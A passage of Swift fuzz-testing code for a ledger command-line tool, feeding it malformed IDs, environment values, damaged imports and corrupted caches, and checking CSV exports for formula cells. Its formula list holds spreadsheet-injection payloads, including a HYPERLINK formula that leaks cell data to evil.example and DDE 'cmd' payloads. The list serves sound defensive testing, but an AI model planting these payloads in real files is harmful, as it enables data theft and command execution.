            let id = rng.pick(BadInputCampaign.lookAlikeIDs)
            rows.append(rng.chance(0.5) ? ["type": "indicator", "id": id, "name": "n", "unit": "u", "year": "2017", "annual-target": "1"]
                                        : ["type": "observation", "indicator": id, "period": "2017-05", "text": "x"])
            let json = rng.chance(0.5)
            let bytes = json ? BadInputCampaign.jsonText(rows, rng: &rng) : BadInputCampaign.csvText(rows, rng: &rng)
            let path = file("lookalike-\(rng.int(0..<1_000_000)).\(json ? "jsonl" : "csv")", bytes)
            return Case(source: "look-alike name", arguments: ["append", "--file", path].map { Array($0.utf8) }, files: [path], expect: .refusal,
                        why: "a batch row naming an id that looks like MED, TRI or RAT: \(id.debugDescription)")
        }
    }

    static let formulas = ["=HYPERLINK(\"http://evil.example/?d=\"&A1,\"ver\")", "=1+1", "+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A9)",
                           "=cmd|'/c calc'!A1", "- ver anexo", "+52 55 1234 5678", "@ana", "==", "=\"a\";\"b\"", "-", "-12.5", "=-1"]

    /// Text a spreadsheet would run as a formula, recorded (it is valid),
    /// then read back through CSV reports (three of the eight each time).
    private func formulaCase(_ rng: inout SplitMix64) {
        let formula = rng.pick(BadInputCampaign.formulas)
        let id = "F-\(rng.int(1...99999))"
        var args: [String]
        switch rng.int(0..<4) {
        case 0:
            args = ["append", "observation", "--indicator", "MED", "--period", "2017-0\(rng.int(4...9))", "--text", (rng.chance(0.2) ? "\t" : "") + formula]
        case 1:
            args = ["append", "indicator", "--id", id, "--name", formula, "--unit", rng.pick([formula, "U"]), "--year", "2017",
                    "--annual-target", "1", "--owner", "9", "--owner-name", rng.pick([formula, "Unidad"]), "--plan", rng.pick(["POA 2017", "=PLAN" + id])]
        case 2:
            args = ["append", "target", "--indicator", "MED", "--annual-target", String(rng.int(1000...5000)), "--reason", formula]
        default:
            args = ["append", "reading", "--indicator", "MED", "--period", "2017-0\(rng.int(4...9))", "--value", "5", "--note", formula]
        }
        let c = Case(source: "formula text", arguments: args.map { Array($0.utf8) }, expect: .anyDocumented, why: "\(formula.debugDescription) in \(args[1]) \(args[2])")
        if dirty { restore() }
        let r = tool.runBytes(c.arguments, ledger: work, timeout: c.timeout)
        judge(c, r)
        guard r.code == 0 else {
            report.defect("formula text refused", "\(c.why): \(r.summary)")
            return
        }
        report.add("formula texts recorded")
        let reports: [[String]] = [["quarter", "2017-Q2", "--csv"], ["quarter", "2017-Q1", "--csv"], ["status", "--csv"], ["log", "--csv"],
                                   ["history", "MED", "--csv"], ["export", "journal", "--csv"], ["export", "state", "--csv"],
                                   ["diff", "--from", "2000-01-01", "--to", "2999-01-01", "--csv"]]
        // Three of them each time (every one over a run): a case costs four processes, not nine.
        var chosen = reports
        while chosen.count > 3 { chosen.remove(at: rng.int(0..<chosen.count)) }
        for command in chosen {
            let out = tool.run(command, ledger: work)
            report.add("CSV reports read back")
            guard out.code == 0, case .success(let records) = CSV.parse(out.stdout, separator: UInt8(ascii: ",")) else {
                report.defect("CSV report failed", "`ledger \(command.joined(separator: " "))` after \(c.why): \(out.summary)")
                continue
            }
            for record in records {
                for field in record.fields {
                    guard let first = field.unicodeScalars.first, "=+-@\t\r".unicodeScalars.contains(first),
                          DecimalNumber(field) == nil, field != "-" else { continue }
                    report.add("formula cells in CSV reports")
                    report.defect("formula cell in a CSV report", "`ledger \(command.joined(separator: " "))` wrote \(field.prefix(60).debugDescription) after \(c.why)")
                }
            }
        }
    }

    // MARK: Environment

    private func environmentCase(_ rng: inout SplitMix64) -> Case {
        let variable = rng.pick(["LEDGER_LOCK_TIMEOUT", "LEDGER_CLOCK", "LEDGER_DIR", "LEDGER_ACTOR", "LANG", "LEDGER_LANG"])
        let values: [String]
        switch variable {
        case "LEDGER_LOCK_TIMEOUT": values = ["abc", "-1", "0", "NaN", "inf", "1e309", "", "0.000001", "99999999999999999999"]
        case "LEDGER_CLOCK": values = ["abc", "2017-13-01T00:00:00Z", "1900-01-01T00:00:00Z", "9999-12-31T23:59:59Z", "2017-04-10", "", "2017-04-10T25:00:00Z"]
        case "LEDGER_DIR": values = [workspace.path("nowhere"), "\(inputs)/cache-probe.csv", "", "/", "/proc"]
        case "LEDGER_ACTOR": values = ["", " ", "a\u{1}b", String(repeating: "ñ", count: 5000), "ana\nluis", "🙂"]
        default: values = ["es_MX.UTF-8", "xx", "", "C", "es", "en_US.ISO-8859-1"]
        }
        let v = rng.pick(values)
        let month = rng.int(4...12)
        let command = rng.chance(0.5)
            ? ["append", "reading", "--indicator", "MED", "--period", month < 10 ? "2017-0\(month)" : "2017-\(month)", "--value", "3"]
            : [rng.pick(["verify", "digest", "log", "repair"])]
        var env = [variable: v]
        if variable == "LEDGER_DIR" && v.isEmpty { env[variable] = LedgerTool.unset }
        return Case(source: "environment", arguments: command.map { Array($0.utf8) }, environment: env, expect: .anyDocumented,
                    why: "\(variable)=\(v.prefix(40).debugDescription)")
    }

    // MARK: Import files

    private func importCase(_ rng: inout SplitMix64) -> Case {
        let format = rng.pick(["csv", "poa-report", "poi", "mir", "xlsx", ""])
        var bytes: [UInt8]
        var why: String
        let seeds = (FileManager.default.currentDirectoryPath as NSString).appendingPathComponent("../shared/seeds")
        let seedFiles = Files.list(seeds).sorted()
        if !seedFiles.isEmpty && rng.chance(0.6) {
            let name = rng.pick(seedFiles)
            bytes = (try? Files.read("\(seeds)/\(name)")) ?? []
            for _ in 0..<rng.int(1...20) where !bytes.isEmpty {
                bytes[rng.int(0..<bytes.count)] = rng.chance(0.5) ? UInt8(rng.int(0...255)) : rng.pick([0x09, 0x0A, 0x2C, 0x22])
            }
            if rng.chance(0.3) { bytes = Array(bytes.prefix(rng.int(0...bytes.count))) }
            why = "seed \(name) with damage"
        } else {
            bytes = rng.chance(0.5) ? rng.bytes(rng.int(0...4000)) : Array(String(repeating: "META\tVALOR ACTUAL\t1,000\t50%\n", count: rng.int(0...200)).utf8)
            why = "garbage"
        }
        let path = file("import-\(rng.int(0..<1_000_000)).txt", bytes)
        var args = ["import", format, path]
        if rng.chance(0.5) { args.append("--dry-run") }
        return Case(source: "import file", arguments: args.map { Array($0.utf8) }, files: [path], expect: .anyDocumented, why: "\(format) \(why)")
    }

    // MARK: Corrupted caches

    private func cacheCase(_ rng: inout SplitMix64) {
        restore()
        let cacheDir = tool.cacheFolder(of: work) ?? "\(work)/no-cache"
        let files = Files.regularFiles(under: cacheDir)
        var structural = false
        var what = ""
        let kind = rng.int(0..<12)
        let targets = files.isEmpty ? [] : (rng.chance(0.7) ? [rng.pick(files)] : files)
        for name in targets {
            let path = "\(cacheDir)/\(name)"
            var bytes = (try? Files.read(path)) ?? []
            switch kind {
            case 0 where !bytes.isEmpty:
                for _ in 0..<rng.int(1...64) { bytes[rng.int(0..<bytes.count)] ^= UInt8(1 << rng.int(0..<8)) }
                what = "bit flips"
            case 1 where bytes.count > 4096:
                for _ in 0..<rng.int(1...64) { bytes[rng.int(4096..<bytes.count)] = UInt8(rng.int(0...255)) }
                what = "random bytes past the first 4 KB"
            case 2 where bytes.count > 64:
                let start = rng.int(0..<bytes.count)
                let length = min(bytes.count - start, rng.chance(0.5) ? 32 : rng.int(1...8192))
                for i in start..<(start + length) { bytes[i] = 0 }
                what = "a zeroed range"
            case 3 where bytes.count > 4096:
                for i in 4096..<bytes.count { bytes[i] = 0xFF }
                what = "everything past the first 4 KB set to 0xFF"
            case 4:
                bytes = Array(bytes.prefix(rng.pick([0, 1, 100, 4095, 4096, max(0, bytes.count - 1), rng.int(0...max(0, bytes.count))])))
                what = "truncated"
            case 5:
                bytes += rng.bytes(rng.int(1...10000))
                what = "extended with garbage"
            case 6:
                bytes = rng.bytes(bytes.count)
                what = "replaced by random bytes"
            case 7:
                if let stale = staleCache.first(where: { $0.0 == name }) { bytes = stale.1 }
                what = "an older copy (stale)"
            case 8:
                if let foreign = foreignCache.first(where: { $0.0 == name }) { bytes = foreign.1 }
                what = "another ledger's copy"
            case 9:
                try? Files.removeTree(path)
                try? Files.makeDirectories(path)
                structural = true
                what = "replaced by a directory"
                continue
            case 10:
                unlink(path)
                symlink(rng.pick(["/dev/zero", "/dev/null", "\(cacheDir)/missing"]), path)
                structural = true
                what = "replaced by a symlink to a device or nowhere"
                continue
            default:
                what = "left alone (control)"
            }
            try? Files.write(path, bytes)
        }
        if kind == 11 && rng.chance(0.5) {
            try? Files.removeTree(cacheDir)
            try? Files.write(cacheDir, rng.bytes(100))
            structural = true
            what = "the cache folder replaced by a file"
        }
        report.add("cache cases")
        report.add("inputs tried")
        report.add("tried: corrupted cache")
        let label = "\(what) of \(targets.count == files.count ? "every cache file" : targets.first ?? "nothing")"
        let kept = workspace.path("corrupted-cache")
        try? Files.copyTree("\(work)/events", kept)
        var problems: [String] = []
        var crashed: CapturedProcess?
        for command in probeCommands {
            let r = tool.run(command, ledger: work, env: ["LEDGER_CLOCK": LedgerTool.fixedClock], timeout: 10)
            report.add("cache probes")
            let expected = oracle[command]!
            if r.isCrash || r.timedOut {
                problems.append("`ledger \(command.joined(separator: " "))`: \(r.summary)")
                crashed = r
                break
            }
            if let code = r.code, code > 4 { problems.append("`ledger \(command.joined(separator: " "))`: undocumented \(r.summary)") }
            let same = r.termination == expected.termination && normalized(r.out, work) == normalized(expected.out, workspace.path("oracle"))
                && normalized(r.err, work) == normalized(expected.err, workspace.path("oracle"))
            // An unusable cache (a directory, a symlink, a file for the folder) may stop a command
            // with a clear I/O error (exit 4), but never change an answer.
            let acceptable = same || (structural && r.code == 4 && Diagnosis.unclear(r) == nil)
            if !acceptable {
                problems.append("`ledger \(command.joined(separator: " "))`: \(r.summary) / without caches: \(expected.summary)")
            }
            let journal = (try? Files.read("\(work)/events/journal.jsonl")) ?? []
            if journal != pristineJournal {
                problems.append("`ledger \(command.joined(separator: " "))` changed the journal")
                restore()
                break
            }
        }
        // A valid append must still go through (or, with an unusable cache, fail with exit 4).
        let valid = crashed != nil ? crashed! : tool.run(["append", "reading", "--indicator", "MED", "--period", "2017-0\(rng.int(4...9))", "--value", "5"], ledger: work, timeout: 10)
        report.add("cache probes")
        if crashed != nil {
        } else if valid.isCrash || valid.timedOut {
            problems.append("a valid append: \(valid.summary)")
            crashed = valid
        } else if valid.code != 0 && !(structural && valid.code == 4) {
            problems.append("a valid append was refused: \(valid.summary)")
        }
        dirty = true
        if problems.isEmpty {
            report.add("handled")
            return
        }
        report.add("cache mismatches")
        if crashed != nil { report.add(crashed!.timedOut ? "hangs" : "crashes") }
        let dir = workspace.keep("cache", trees: [kept], command: "corrupted cache: \(label)\n" + problems.joined(separator: "\n"), result: crashed)
        report.defect(crashed == nil ? "corrupted cache changed an answer" : (crashed!.timedOut ? "hang" : "crash"),
                      "\(label): \(problems.first!)", reproducer: dir)
    }
}
